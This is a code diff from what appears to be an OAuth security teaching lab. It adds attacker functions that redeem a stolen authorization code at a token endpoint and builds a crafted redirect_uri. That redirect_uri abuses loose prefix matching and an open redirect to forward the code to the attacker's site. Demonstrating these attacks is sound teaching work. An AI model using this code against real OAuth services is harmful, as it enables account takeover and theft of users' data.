@@ -36,8 +36,9 @@ export interface Redemption {
  * token endpoint as the lab's PUBLIC client (a public client has no secret to stop her). Without PKCE that is all
  * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
  */
-export async function redeemStolenCode(config: AttackerConfig, code: string): Promise<Redemption> {
-  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: config.labRedirectUri, client_id: config.labPublicClientId });
+export async function redeemStolenCode(config: AttackerConfig, code: string, extra: { redirect_uri?: string; code_verifier?: string } = {}): Promise<Redemption> {
+  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: extra.redirect_uri ?? config.labRedirectUri, client_id: config.labPublicClientId });
+  if (extra.code_verifier) form.set('code_verifier', extra.code_verifier);
   const response = await fetch(`${config.auth.internalUrl}/token`, {
     method: 'POST',
     headers: { 'content-type': 'application/x-www-form-urlencoded' },
@@ -65,4 +66,13 @@ export async function readPhotos(config: AttackerConfig, accessToken: string, wh
   }
   const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
   return { success: true, summary: `${what}: ${body.owner}’s ${titles.length} photos.`, details: [`owner: ${body.owner}`, ...titles] };
+}
+
+/**
+ * Scenario 3, loose redirect_uri matching (RFC 9700 §4.1): a redirect_uri that STARTS WITH the lab copy's registered
+ * one, yet, once the browser resolves its `..`, lands on the printer's careless "continue to" redirect
+ * (`/lab/go?to=`), which forwards the answer, code included, to her site.
+ */
+export function craftedRedirectUri(config: AttackerConfig, run: string): string {
+  return `${config.labRedirectUri}/../go?to=${encodeURIComponent(`${config.attacker.publicUrl}/catch/${run}`)}`;
 }
